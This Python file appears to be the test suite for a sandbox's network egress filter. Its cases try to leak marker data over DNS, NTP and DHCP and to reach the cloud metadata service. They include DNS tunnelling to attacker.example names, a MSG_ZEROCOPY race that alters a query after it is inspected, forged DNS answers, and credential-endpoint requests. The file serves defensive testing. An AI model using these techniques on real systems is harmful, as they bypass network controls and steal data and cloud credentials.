# SPDX-License-Identifier: MIT
"""What the host itself may say, as a carrier: DNS, NTP, DHCP; and the metadata service."""
import errno
import mmap
import os
import signal
import socket
import struct
import time

import craft
from kernel import MSG_ZEROCOPY, SO_ZEROCOPY
from table import at_uplink, attack, packed

DNS, OTHER, METADATA = "DNS", "NTP and DHCP", "the metadata service"
ALLOWED = "api.openai.com"
DS = 43
PUBLIC = {4: "8.8.8.8", 6: "2001:4860:4860::8888"}


def ask(t, data, to=None, port=53):
    t.socket().sendto(data, (to or t.resolver, port))


def dns(what, reason="dns-malformed"):
    """An attack that is one datagram to the resolver: the function makes it."""
    def enter(make):
        def act(t):
            ask(t, make(t))
        act.__name__ = make.__name__
        return attack(DNS, what, "cgroup", reason, families=(4,))(act)
    return enter


@dns("the data as a label of the attacker's name", "dns-name-not-allowed")
def dns_name(t):
    return craft.query(t.label + ".attacker.example")


@dns("the same in a TXT query", "dns-name-not-allowed")
def dns_txt(t):
    return craft.query(t.label + ".attacker.example", 16)


@dns("the data as a label before an allowed name", "dns-name-not-allowed")
def dns_below_allowed(t):
    return craft.query(t.label + "." + ALLOWED)


@dns("a name of which the allowed one is the beginning", "dns-name-not-allowed")
def dns_behind_allowed(t):
    return craft.query(ALLOWED + "." + t.label + ".attacker.example")


@dns("the data in the question for the keys of a zone, beside one above an allowed name", "dns-name-not-allowed")
def dns_keys(t):
    return craft.query(t.label + ".openai.com", DS)


def ask_alias(t):
    """An allowed name whose answer is an alias without an address: from now on edge.cdn.example may be asked for."""
    s = t.socket()
    s.sendto(craft.query("alias.lab.example"), (t.resolver, 53))
    s.recv(4096)


@dns("the data as a label before a name that an allowed name's alias leads to", "dns-name-not-allowed")
def dns_below_alias(t):
    ask_alias(t)
    return craft.query(t.label + ".edge.cdn.example")


@dns("the data beside such a name", "dns-name-not-allowed")
def dns_beside_alias(t):
    ask_alias(t)
    return craft.query(t.label + ".cdn.example")


@dns("the data in the question for the keys of a zone, beside one above such a name", "dns-name-not-allowed")
def dns_keys_beside_alias(t):
    ask_alias(t)
    return craft.query(t.label + ".cdn.example", DS)


@dns("an allowed name as one label with dots in it")
def dns_dotted_label(t):
    name = b"\x0eapi.openai.com" + bytes([8]) + t.marker + b"\0"
    return struct.pack("!HH4H", 1, 0x0100, 1, 0, 0, 0) + name + struct.pack("!HH", 1, 1)


@dns("an allowed name that ends early with a zero within a label")
def dns_zero_label(t):
    name = b"\x03api\x06openai\x0ccom\0" + t.marker + b"\0"
    return struct.pack("!HH4H", 1, 0x0100, 1, 0, 0, 0) + name + struct.pack("!HH", 1, 1)


@dns("data behind the query")
def dns_trailing(t):
    return craft.query(ALLOWED, tail=t.marker)


@dns("two questions, the first allowed")
def dns_two_questions(t):
    return craft.query(ALLOWED, counts=(2, 0, 0, 0), tail=craft.wire_name(t.label + ".attacker.example") + b"\0\1\0\1")


@dns("a compressed name that points behind the question")
def dns_pointer(t):
    return (struct.pack("!HH4H", 1, 0x0100, 1, 0, 0, 0) + b"\xc0\x12" + struct.pack("!HH", 1, 1) +
            craft.wire_name(t.label + ".attacker.example"))


@attack(DNS, "an EDNS option that nobody knows", "", "", families=(4,),
        leaves="EDNS options go as far as the resolver, which passes none on")
def dns_option(t):
    option = struct.pack("!HH", 65001, 8) + t.marker
    ask(t,
        craft.query(ALLOWED, counts=(1, 0, 0, 1), tail=b"\0" + struct.pack("!HHIH", 41, 1232, 0, len(option)) + option))


@dns("an answer in place of a query")
def dns_response(t):
    return craft.query(ALLOWED, flags=0x8100, tail=t.marker)


@dns("a dynamic update")
def dns_update(t):
    return craft.query(ALLOWED, flags=0x2800, tail=t.marker)


@dns("a record in the additional section")
def dns_additional(t):
    record = craft.wire_name(t.label + ".x") + struct.pack("!HHIH", 1, 1, 0, 4) + bytes(4)
    return craft.query(ALLOWED, counts=(1, 0, 0, 1), tail=record)


@dns("no DNS at all")
def dns_nonsense(t):
    return t.marker * 4


@attack(DNS, "a name of the attacker's over TCP", "cgroup", "dns-name-not-allowed", families=(4,))
def dns_tcp(t):
    data = craft.query(t.label + ".attacker.example")
    t.connected(t.resolver, 53).send(struct.pack("!H", len(data)) + data)


@attack(DNS, "an allowed name first and another second on one TCP connection", "cgroup", "dns-name-not-allowed",
        families=(4,))
def dns_tcp_second(t):
    s = t.connected(t.resolver, 53)
    for name in (ALLOWED, t.label + ".attacker.example"):
        data = craft.query(name)
        s.send(struct.pack("!H", len(data)) + data)
        if name == ALLOWED:
            s.recv(1)


@attack(DNS, "plain data on TCP port 53 of the resolver", "cgroup", "dns-malformed", families=(4,))
def dns_tcp_nonsense(t):
    t.connected(t.resolver, 53).send(b"\0\x08" + t.marker)


@attack(DNS, "urgent data on TCP port 53 of the resolver, which it would not see", "cgroup", "dns-malformed",
        families=(4,))
def dns_tcp_urgent(t):
    s = t.connected(t.resolver, 53)
    data = craft.query(ALLOWED)
    whole = struct.pack("!H", len(data)) + data
    s.send(whole[:20], socket.MSG_OOB)
    s.send(whole[20:])
    s.send(t.marker)


@attack(DNS, "a query to a resolver of the attacker's", "connect", "dns-resolver-not-allowed")
def dns_attacker(t):
    ask(t, craft.query(t.label + ".attacker.example"), t.to)


@attack(DNS, "an allowed name to a public resolver", "connect", "dns-resolver-not-allowed")
def dns_public(t):
    ask(t, craft.query(ALLOWED, tail=t.marker), PUBLIC[t.family])


@attack(DNS, "TCP to a resolver of the attacker's", "connect", "dns-resolver-not-allowed")
def dns_attacker_tcp(t):
    t.connected(t.to, 53).send(t.marker)


@attack(DNS, "DNS over TLS (853)", "connect", "address-not-allowed")
def dns_over_tls(t):
    t.connected(t.to, 853).send(t.marker)


@attack(DNS, "port 853 of the allowed resolver", "connect", "port-not-allowed", families=(4,),
        unseen="the lab's resolver has no such port: it is a bare SYN")
def dns_over_tls_resolver(t):
    t.connected(t.resolver, 853, 0.5).send(t.marker)


@attack(DNS, "DNS over HTTPS at a public resolver", "connect", "address-not-allowed")
def dns_over_https(t):
    t.connected(PUBLIC[t.family], 443).send(craft.hello(t.marker, craft.server_name("dns.google")))


@attack(DNS, "queries that the kernel cuts from one datagram, the second for the attacker's name", "cgroup",
        "dns-malformed", families=(4,))
def dns_segmented(t):
    first, second = craft.query(ALLOWED), craft.query(t.label + ".attacker.example")
    option = struct.pack("!HH", 65001, len(second)) + second
    edns = b"\0" + struct.pack("!HHIH", 41, 1232, 0, len(option))
    head = craft.query(ALLOWED, counts=(1, 0, 0, 1), tail=edns) + option[:4]
    s = t.socket()
    s.setsockopt(socket.IPPROTO_UDP, 103, len(head))
    s.sendto(head + second, (t.resolver, 53))


@attack(DNS, "a query whose memory (MSG_ZEROCOPY) another thread changes behind the look", "cgroup", "shared-pages",
        families=(4,))
def dns_zerocopy_changed(t):
    sent = craft.query(f"{t.label}.{t.label}.attacker.example")
    seen = craft.query(ALLOWED)
    option = len(sent) - len(seen) - 11 - 4
    seen = craft.query(ALLOWED, counts=(1, 0, 0, 1),
                       tail=b"\0" + struct.pack("!HHIHHH", 41, 1232, 0, option + 4, 65001, option) + bytes(option))
    page = mmap.mmap(-1, 4096)
    page[:len(seen)] = seen
    s = t.socket()
    s.setsockopt(socket.SOL_SOCKET, SO_ZEROCOPY, 1)
    s.connect((t.resolver, 53))
    flipper = os.fork()
    if not flipper:
        signal.alarm(5)
        while True:
            page[:len(sent)] = sent
            page[:len(seen)] = seen
    refused = None
    try:
        for _ in range(4000):
            try:
                s.send(memoryview(page)[:len(seen)], MSG_ZEROCOPY)
            except OSError as e:
                if e.errno != errno.ENOBUFS:
                    refused = e
                else:
                    reap(s)
    finally:
        os.kill(flipper, signal.SIGKILL)
        os.waitpid(flipper, 0)
    if refused:
        raise refused


def reap(s):
    """The kernel's word that it is done with a page: until it is taken, it counts as memory of the socket."""
    try:
        while True:
            s.recvmsg(64, 256, socket.MSG_ERRQUEUE | socket.MSG_DONTWAIT)
    except BlockingIOError:
        pass


# ---- forged answers teach addresses ----

@attack(DNS, "an answer that the attacker forges itself, through a TUN device", "cgroup", "address-not-allowed",
        families=(4,), caps=("NET_ADMIN",))
def dns_forged_by_tun(t):
    from kernel import tun
    from link import tool
    fd, name = tun()
    tool("ip", "addr", "add", "10.96.0.1/24", "dev", name)
    tool("ip", "link", "set", name, "up")
    forge(t, lambda packet: os.write(fd, packet))


@attack(DNS, "an answer that a container forges for a process on the host network", "cgroup", "address-not-allowed",
        families=(4,), where="both")
def dns_forged_by_box(t):
    from link import ether
    forge(t, lambda packet: t.box.send(ether(t, packet)))


def forge(t, inject):
    """Asks for an allowed name while a second process answers all the time, with the attacker's address."""
    s = t.socket()
    ident = int.from_bytes(t.marker[2:4], "big")
    s.connect((t.resolver, 53))
    port = s.getsockname()[1]
    data = craft.udp(t.resolver, t.source, 53, port, craft.answer(ALLOWED, t.to, ident))
    packet = craft.ip4(t.resolver, t.source, craft.UDP, data)
    pid = os.fork()
    while not pid:
        inject(packet)
    try:
        for _ in range(10):
            time.sleep(0.02)
            s.send(struct.pack("!H", ident) + craft.query(ALLOWED)[2:])
    finally:
        os.kill(pid, signal.SIGKILL)
        os.waitpid(pid, 0)
    t.connected(t.to, 443).send(craft.hello(t.marker, craft.server_name(ALLOWED)))


# ---- NTP, DHCP ----

REQUEST = b"\x23" + bytes(39)


@attack(OTHER, "data behind an NTP request", "cgroup", "ntp-malformed", families=(4,))
def ntp_trailing(t):
    ask(t, REQUEST + bytes(8) + t.marker, t.clock, 123)


@attack(OTHER, "data in an NTP request's fields", "cgroup", "ntp-malformed", families=(4,))
def ntp_fields(t):
    ask(t, b"\x23" + t.marker * 4 + bytes(15), t.clock, 123)


@attack(OTHER, "an NTP control message (mode 6)", "cgroup", "ntp-malformed", families=(4,))
def ntp_control(t):
    ask(t, b"\x16\x02" + bytes(10) + t.marker, t.clock, 123)


@attack(OTHER, "an NTP private message (mode 7)", "cgroup", "ntp-malformed", families=(4,))
def ntp_private(t):
    ask(t, b"\x17\0\3\x2a" + bytes(4) + t.marker * 5, t.clock, 123)


@attack(OTHER, "an NTP request to a time server of the attacker's", "connect", "ntp-server-not-allowed")
def ntp_attacker(t):
    ask(t, REQUEST + t.marker, t.to, 123)


@attack(OTHER, "TCP to port 123 of the time server", "connect", "port-not-allowed", families=(4,),
        unseen="nobody listens there: it is a bare SYN")
def ntp_tcp(t):
    t.connected(t.clock, 123, 0.5).send(t.marker)


def dhcp(t, to, client, server):
    s = t.socket()
    s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    s.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
    s.bind(("", client))
    s.sendto(t.marker * 40, (to, server))


@attack(OTHER, "a DHCP client's datagram to the attacker", "connect", "protocol-not-allowed", families=(4,))
def dhcp_attacker(t):
    dhcp(t, t.to, 68, 67)


@attack(OTHER, "a DHCPv6 client's datagram to the attacker", "cgroup", "protocol-not-allowed", families=(6,))
def dhcp6_attacker(t):
    dhcp(t, t.to, 546, 547)


@attack(OTHER, "a datagram to a private address's port 67 from another port than a DHCP client's", "cgroup",
        "protocol-not-allowed", families=(4,))
def dhcp_other_port(t):
    dhcp(t, "10.0.0.10", 6868, 67)


@attack(OTHER, "DHCP to the metadata service's address", "connect", "metadata-service", families=(4,))
def dhcp_metadata(t):
    dhcp(t, "169.254.169.254", 68, 67)


@attack(OTHER, "a DHCP client's datagram into the private network", "", "", families=(4,),
        leaves="rule 2: who may bind port 68 can send to port 67 of a private address",
        container=at_uplink("forwarded"))
def dhcp_private(t):
    dhcp(t, "10.0.0.10", 68, 67)


# ---- the metadata service ----

GET = b"GET /latest/meta-data/%s HTTP/1.0\r\n\r\n"


@attack(METADATA, "a request to it", "connect", "metadata-service")
def metadata_tcp(t):
    t.connected("169.254.169.254" if t.family == 4 else "fd00:ec2::254", 80).send(GET % t.marker)


@attack(METADATA, "a datagram to it", "connect", "metadata-service")
def metadata_udp(t):
    t.socket().sendto(t.marker, ("169.254.169.254" if t.family == 4 else "fd00:ec2::254", 80))


@attack(METADATA, "its IPv4 address in an IPv6 socket", "connect", "metadata-service", families=(6,))
def metadata_mapped(t):
    t.connected("::ffff:169.254.169.254", 80).send(GET % t.marker)


@attack(METADATA, "its translated address", "connect", "metadata-service", families=(6,))
def metadata_translated(t):
    t.socket().sendto(t.marker, ("64:ff9b::169.254.169.254", 80))


@attack(METADATA, "a request for a container's credentials (EKS)", "connect", "metadata-service")
def metadata_pod(t):
    t.connected("169.254.170.23" if t.family == 4 else "fd00:ec2::23", 80).send(GET % t.marker)


@attack(METADATA, "a request for a container's credentials (ECS), from a container", "connect", "metadata-service",
        families=(4,), where="box")
def metadata_task(t):
    t.connected("169.254.170.2", 80).send(GET % t.marker)


@attack(METADATA, "an allowed name that points to it", "connect", "metadata-service", families=(4,))
def metadata_by_name(t):
    address = socket.gethostbyname("meta.lab.example")
    t.connected(address, 80).send(GET % t.marker)


@attack(METADATA, "a container's request to it", "connect", "metadata-service", families=(4,), where="box")
def metadata_from_box(t):
    t.connected("169.254.169.254", 80).send(GET % t.marker)
